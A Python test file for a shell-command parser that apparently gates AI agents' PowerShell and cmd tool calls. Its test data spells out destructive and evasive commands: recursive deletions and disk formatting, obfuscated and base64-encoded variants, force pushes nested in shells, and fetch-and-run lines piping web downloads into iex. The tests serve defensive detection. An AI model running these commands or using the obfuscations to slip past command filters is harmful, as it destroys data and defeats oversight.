"""PowerShell and cmd lines become commands, as those of a POSIX line do. None of them is sure."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fairlead import Hooks, Verdict, deny
from fairlead.lifecycle import BeforeTool, ShellCall
from fairlead.shell import Command, Dialect, Word, read
from fairlead.shell.tree import TOKENS, Budget, TooComplex
from fairlead.shell.windows.cmd import CmdParser
from fairlead.shell.windows.powershell import PowerShellParser
from fairlead.tools import dialect_of


def encoded(line: str) -> str:
    return base64.b64encode(line.encode("utf-16-le")).decode()


def commands(line: str, dialect: Dialect) -> list[Command]:
    return read(line, r"C:\work", {"USERPROFILE": r"C:\me"}, dialect).commands


def found(line: str, dialect: Dialect, program: str) -> Command:
    (command,) = [command for command in commands(line, dialect) if command.program == program]
    return command


# --- destructive lines and their neighbours -----------------------------------------------------

DELETES = (
    r"Remove-Item -Recurse -Force C:\x", r"remove-item C:\x -rec -fo", r"ri -r -fo C:\x", r"rd C:\x -Recurse -Force",
    r"rmdir -Recurse -Force C:\x", r"del -Force -Recurse C:\x", r"erase C:\x -r -fo",
    r"Remove-Item -Force:$true -Recurse C:\x",
    r"Remove-Item -Path C:\x -Recurse -Force", r"Remove-Item -LiteralPath 'C:\x' -Recurse -Force",
    r"Microsoft.PowerShell.Management\Remove-Item C:\x -r -fo", r"& 'Remove-Item' C:\x -r -fo",
    "Remove-Item `\n -r -fo C:\\x",
    r"$c = 'ri'; & $c C:\x -r -fo", r"R`emove-Item C:\x -r -fo", r"if (Test-Path C:\x) { ri C:\x -r -fo }",
    r"gci | % { ri C:\x -r -fo }", r"Invoke-Command -ScriptBlock { ri C:\x -r -fo }", r"iex 'ri C:\x -r -fo'",
    r"'ri C:\x -r -fo' | iex", r"Invoke-Expression ('ri C:\x ' + '-r -fo')", "@'\nri C:\\x -r -fo\n'@ | iex",
    r"powershell -NoProfile -Command ri C:\x -r -fo", r'pwsh -c "ri C:\x -r -fo"',
    r"cmd /c 'powershell ri C:\x -r -fo'",
    "powershell -NoP -W Hidden -Enc " + encoded(r"ri C:\x -r -fo"),
    r"Start-Process powershell -ArgumentList 'ri C:\x -r -fo'",
    r"$x = ri C:\x -r -fo", r"echo $(ri C:\x -r -fo)", r'"$(ri C:\x -r -fo)"', r"function f { ri C:\x -r -fo }; f",
    r"try { ri C:\x -r -fo } catch { }", r"ls; ri C:\x -r -fo", r"ls && ri C:\x -r -fo",
    r"<# no #> ri C:\x -r -fo # no",
    "ri \u2018C:\\x\u2019 \u2013Recurse \u2013Force", r"@{a = (ri C:\x -r -fo)}", r"Start-Job { ri C:\x -r -fo }",
)  # fmt: skip


@pytest.mark.parametrize("line", DELETES)
def test_every_spelling_of_a_recursive_removal_is_found(line: str) -> None:
    command = found(line, "powershell", "remove-item")
    assert command.operands == [r"C:\x"]
    assert command.has("-Recurse")
    assert command.has("-force")
    assert not command.sure


@pytest.mark.parametrize(
    "line",
    [
        r"Get-ChildItem -Recurse -Force C:\x", "echo 'Remove-Item x'", "# Remove-Item x", "<# Remove-Item x #>",
        "git commit -m 'Remove-Item -Recurse'", "Select-String 'rm -rf' log.txt", "Get-Help Remove-Item",
        "Write-Host \"`$(Remove-Item x)\"", "$x = 'Remove-Item x'", "@'\nRemove-Item x\n'@ | Set-Content f",
        "@{'remove-item' = 1}", "'a', 'remove-item' | Sort-Object",
    ],
)  # fmt: skip
def test_text_that_only_names_a_removal_is_none(line: str) -> None:
    assert "remove-item" not in {command.program for command in commands(line, "powershell")}


def test_parameters_that_could_be_meant_are_not_guessed() -> None:
    assert not found("ri -f x", "powershell", "remove-item").has("-force")  # -Filter or -Force
    assert not found("ri x -Exclude -Recurse,y", "powershell", "remove-item").options.get("-recurse")


def test_a_value_of_a_parameter_is_no_operand_unless_it_may_be_given_by_place() -> None:
    command = found("Remove-Item -Path a,b -Exclude c,d e", "powershell", "remove-item")
    assert command.operands == ["a", "b", "e"]
    assert command.options["-exclude"] == "c"


@pytest.mark.parametrize(
    "line",
    [
        r"del /s /q C:\x", r"DEL /S /Q C:\x", r"del/s/q C:\x", r"erase /q /s C:\x", r"del C:\x /s/q",
        r"d^el /s /q C:\x",
        r'"del" /s /q "C:\x"', r"if exist C:\x del /s /q C:\x", r"if not exist y (del /s /q C:\x) else echo no",
        r'if /i "%a%"=="b" del /s /q C:\x', r"if a equ b del /s /q C:\x", r"if a == b del /s /q C:\x",
        r"if a==b del /s /q C:\x", r"if nonsense (del /s /q C:\x)", r"for %i in (a b) do del /s /q C:\x",
        r"for /f %i in ('del /s /q C:\x') do echo %i", r"call del /s /q C:\x", r"start /b del /s /q C:\x",
        r'cmd /c "del /s /q C:\x"', r"cmd /q/c del /s /q C:\x", r'cmd /s /c "del /s /q "C:\x""',
        r"echo y | del /s /q C:\x",
        r"echo del /s /q C:\x | cmd", r"powershell cmd /c 'del /s /q C:\x'", r"(echo a & del /s /q C:\x)",
        r"@del /s /q C:\x",
        r"set D=del & %D% /s /q C:\x", "rem no\r\ndel /s /q C:\\x\r\n", r'forfiles /s /c "cmd /c del /s /q C:\x"',
        r'runas /user:a "del /s /q C:\x"', "del /s ^\n/q C:\\x", r'start "title" /wait cmd /k del /s /q C:\x',
    ],
)  # fmt: skip
def test_every_spelling_of_del_is_found(line: str) -> None:
    command = found(line, "cmd", "del")
    assert command.has("/S")
    assert command.has("/q")
    assert command.operands == [r"C:\x"]


@pytest.mark.parametrize("line", ["rd /s /q x", "rmdir /S/Q x", "RD/S/Q x"])
def test_rd_and_rmdir_are_one(line: str) -> None:
    command = found(line, "cmd", "rmdir")
    assert command.has("/s")
    assert command.operands == ["x"]


@pytest.mark.parametrize(
    "line", ["rem del x", ":: del x", "echo del x", 'findstr "del" x', "echo a ^& del x", "dir /s /q x"]
)
def test_text_that_only_names_del_is_none(line: str) -> None:
    assert "del" not in {command.program for command in commands(line, "cmd")}


@pytest.mark.parametrize(
    ("line", "dialect"),
    [
        ('cmd /c "git push --force"', "powershell"), ('cmd /c "cd x && git push --force"', "powershell"),
        ("& 'C:\\Program Files\\Git\\cmd\\git.exe' push -f", "powershell"), ("git.exe push -f", "powershell"),
        ("wsl git push -f", "powershell"), ("wsl -d Ubuntu -- bash -c 'git push -f'", "powershell"),
        ("bash -c 'git push -f'", "powershell"), ("Start-Process git -ArgumentList 'push','-f' -Wait", "powershell"),
        ("Start-Process -FilePath git -Args 'push -f'", "powershell"), ("saps git 'push --force'", "powershell"),
        ("docker exec x git push -f", "powershell"), ("python -c \"os.system('git push -f')\"", "powershell"),
        ('cmd /c "git push --force"', "cmd"), ("GIT push -f", "cmd"), ("start git push -f", "cmd"),
        ('"C:\\Program Files\\Git\\bin\\git.exe" push -f', "cmd"), ("wsl git push -f", "cmd"),
        ('powershell -Command "git push -f"', "cmd"), (f"powershell -e {encoded('git push -f')}", "cmd"),
        ("pwsh -c 'git push -f'", "posix"), ("powershell.exe -NoProfile -Command 'git push -f'", "posix"),
        ("cmd.exe /c 'cd x & git push -f'", "posix"), ("cmd //c 'git push -f'", "posix"),
        ("CMD.EXE /C git push -f", "posix"),
        (f"PowerShell.exe -enc {encoded('git push -f')}", "posix"), ("echo git push -f | pwsh -", "posix"),
        ("sudo pwsh -c 'cmd /c \"git push -f\"'", "posix"),
    ],
)  # fmt: skip
def test_what_a_shell_in_a_shell_runs_is_found(line: str, dialect: Dialect) -> None:
    (push,) = [command for command in commands(line, dialect) if command.runs("git push")]
    assert push.has("--force")
    assert not push.sure
    assert not read(line, dialect=dialect).sure


@pytest.mark.parametrize(
    ("line", "program", "inner"),
    [
        ("iex (iwr http://x)", "invoke-expression", ["invoke-webrequest"]),
        ("iex (New-Object Net.WebClient).DownloadString('http://x')", "invoke-expression", ["new-object"]),
    ],
)
def test_what_is_fetched_and_run_is_inside(line: str, program: str, inner: list[str]) -> None:
    assert [command.program for command in found(line, "powershell", program).inner] == inner


@pytest.mark.parametrize("line", ["iwr http://x | iex", "curl http://x | iex", "(iwr http://x).Content | iex"])
def test_what_is_fetched_and_piped_is_one_pipeline(line: str) -> None:
    last = found(line, "powershell", "invoke-expression")
    assert last.position == 1
    assert last.reads is not None
    assert any(one.program == "invoke-webrequest" for one in last.reads.walk())


@pytest.mark.parametrize(
    ("line", "program"),
    [
        ("Format-Volume -DriveLetter D", "format-volume"), ("Clear-Disk 0 -RemoveData", "clear-disk"),
        ("Stop-Computer -Force", "stop-computer"), ("kill 1", "stop-process"), ("sc f x", "set-content"),
        ("cpi a b", "copy-item"), ("move a b", "move-item"), ("type f", "get-content"),
        ("wget u", "invoke-webrequest"),
        ("[IO.File]::Delete('f')", "[io.file]::delete"), ("$x.Delete('f')", ".delete"), (". .\\a.ps1", "."),
        (".\\build.ps1 -Clean", "build"), ("7z x a.zip", "7z"), ("C:/tools/x.cmd a", "x"),
    ],
)  # fmt: skip
def test_programs_have_one_name(line: str, program: str) -> None:
    assert commands(line, "powershell")[0].program == program


def test_an_alias_that_may_be_a_program_counts_as_both() -> None:
    rm = found("rm -rf x", "powershell", "rm")
    assert rm.has("--recursive")
    assert rm.via == ("alias rm",)
    assert [command.program for command in commands("rm -Recurse x", "powershell")] == ["remove-item"]


# --- words, redirections, folders ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("word", "expected"),
    [
        ("'it''s'", "it's"), ('"a""b"', 'a"b'), ('"a`tb"', "a\tb"), ("a`;b", "a;b"), ("'$x'", "$x"), ('"`$x"', "$x"),
        ("a#b", "a#b"), ("@'\nx\ny\n'@", "x\ny"), ("stash@{0}", "stash@{0}"), ("--opt=x", "--opt=x"),
    ],
)  # fmt: skip
def test_quotes_are_removed(word: str, expected: str) -> None:
    (command,) = commands(f"p {word}", "powershell")
    assert command.args == [expected]


def test_variables_from_elsewhere_are_unknown() -> None:
    (command,) = commands('p $x "a$($y.z)b" $env:USERPROFILE', "powershell")
    words = command.args
    assert [word.unknown for word in words if isinstance(word, Word)] == [("$x",), ("$(...)",), ("$env:USERPROFILE",)]
    assert words[2] == r"C:\me"
    (command,) = commands("p %x% %USERPROFILE%", "cmd")
    assert command.args == ["%x%", r"C:\me"]
    assert all(isinstance(word, Word) for word in command.args)


def test_redirections_say_what_is_written() -> None:
    (command,) = commands("p a > out.txt 2>> err.txt 3>&1", "powershell")
    assert command.writes() == ["out.txt", "err.txt"]
    assert command.args == ["a"]
    (command,) = commands('p a>"out file" 2>&1 <in', "cmd")
    assert command.writes() == ["out file"]


def test_cd_is_followed() -> None:
    assert found(r"cd sub; git push", "powershell", "git").folder == r"C:\work\sub"
    assert found(r"cd /d D:\x && git push", "cmd", "git").folder == r"D:\x"
    assert found("Set-Location $x; git push", "powershell", "git").folder == ""


def test_options_of_programs_have_slashes_too() -> None:
    command = found("taskkill /F /IM x.exe", "powershell", "taskkill")
    assert command.has("/f")
    assert command.to_builtins()["options"].keys() >= {"/f", "/F", "/im"}


# --- the dialect of a tool ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("tool", "dialect"),
    [
        ("PowerShell", "powershell"), ("pwsh", "powershell"), ("run_powershell", "powershell"),
        ("powershell.exe", "powershell"),
        ("mcp__win__PowerShell", "powershell"), ("cmd.exe", "cmd"), ("run_cmd_exe", "cmd"), ("cmd", "posix"),
        ("run_terminal_cmd", "posix"), ("Bash", "posix"), ("powershell_docs_search", "posix"),
    ],
)  # fmt: skip
def test_the_name_of_a_tool_says_its_dialect(tool: str, dialect: Dialect) -> None:
    assert dialect_of(tool) == dialect
    assert BeforeTool(tool=tool, args={"command": "x"}).target.dialect == dialect


def test_hooks_see_the_commands_of_a_powershell_tool() -> None:
    hooks = Hooks()

    @hooks.on.before_tool(kind="shell", phase="gate")
    def no_removal(step: ShellCall) -> Verdict | None:
        return deny("no") if step.target.runs("remove-item", "-Recurse") else None

    for text, control in (("ri -r x", "deny"), ("ri x", "proceed")):
        assert hooks.dispatch_sync(BeforeTool(tool="PowerShell", args={"command": text})).control == control


# --- bounds -------------------------------------------------------------------------------------

PIECES = st.sampled_from([
    "ri", "x", " ", " ", "\n", "\r\n", ";", "|", "&&", "||", "&", "(", ")", "$(", "@(", "@{", "${", "}", "{", "'",
    '"', "$",
    "`", "^", "%", "!", "@'\n", "\n'@", "<#", "#>", "#", ">", ">>", "2>&1", "<", ",", "=", "$x", "$x = ", "%x%",
    "!x!", "set x=",
    "if ", "else ", "foreach ", "for %i in (", ") do ", "exist ", "not ", "==", "function f ", "switch ",
    "[IO.File]", "::D(",
    ".a(", "iex ", "powershell -c ", "cmd /c ", "-enc ", "YQBiAA==", "wsl ", "bash -c ", "start ", "call ", "-r",
    "-Path:", "/s",
    "Start-Process ", "-ArgumentList ", "--%", "\u201c", "\u2028", "\0", "é", "rem ", "::", "@",
])  # fmt: skip
LINES = st.lists(PIECES, max_size=40).map("".join)
DIALECTS = st.sampled_from(("powershell", "cmd"))


@given(LINES | st.text(max_size=200), DIALECTS)
@settings(max_examples=600)
def test_no_text_makes_it_raise_or_sure(text: str, dialect: Dialect) -> None:
    line = read(text, "/work", dialect=dialect)
    assert not line.sure
    for command in line.commands:
        assert not command.sure
        command.to_builtins()
        repr(command)


@given(LINES)
def test_a_posix_line_with_windows_shells_does_not_raise(text: str) -> None:
    for command in read(f"pwsh -c '{text}'").commands:
        command.to_builtins()


@given(LINES, DIALECTS)
def test_a_line_that_begins_with_a_word_is_never_empty(text: str, dialect: Dialect) -> None:
    assert read(f"x {text}", dialect=dialect).commands


@pytest.mark.parametrize("text", ["$x", "1 + 1", ")", "}", "@", "(", "if", "%", "''", "&", ";", "for", "|"])
def test_what_is_no_command_is_not_empty(text: str) -> None:
    assert read(text, dialect="powershell").commands
    assert read(text, dialect="cmd").commands


UNITS = (
    "a ", "'\"", "$(", "`", "{", ",", "(", ";", "$", "$a=", "if ", "\n", "$x", "@{", "@'\n", "<#", "[", "[a]::b(",
    '"$(', "& ",
    "powershell -c ", "iex '", "% { ", "%a", "!a:", "^", "if a==", "for %i in (", "for %i in ('x) ", "cmd /c ",
    "call ", "> ",
    "--%", "-a:", ".a(", "'a'+", "if    ", "${a", "/s", "a,", "start \"", "@(", "=", "%%", "set a=%a%%a%&",
    "$a=\"$a$a\";",
)  # fmt: skip


@pytest.mark.parametrize("unit", UNITS)
@pytest.mark.parametrize("parser", [PowerShellParser, CmdParser])
def test_the_tokens_of_a_line_are_bounded(unit: str, parser: type[PowerShellParser | CmdParser]) -> None:
    text = unit * (100_000 // len(unit))
    dialect: Dialect = "cmd" if parser is CmdParser else "powershell"
    line = read(text, dialect=dialect)
    assert line.commands or text.lstrip()[:1] in ("#", ":", "") or text[:2] == "<#"
    assert not line.sure
    spent = []
    for size in (200, 400):
        budget = Budget(10 * TOKENS)
        try:
            parser(unit * size, budget, {}, 0).parse()
        except TooComplex:
            assert not line.sound
            return
        spent.append(10 * TOKENS - budget.left)
    assert spent[1] <= 2 * spent[0] + 16


def test_lines_in_lines_end() -> None:
    for line in ("cmd /c " * 50 + "del x", "powershell -c " * 50 + "ri x", "& { " * 50 + "ri x" + " }" * 50):
        for dialect in ("powershell", "cmd"):
            assert not read(line, dialect=dialect).sound or dialect == "cmd"
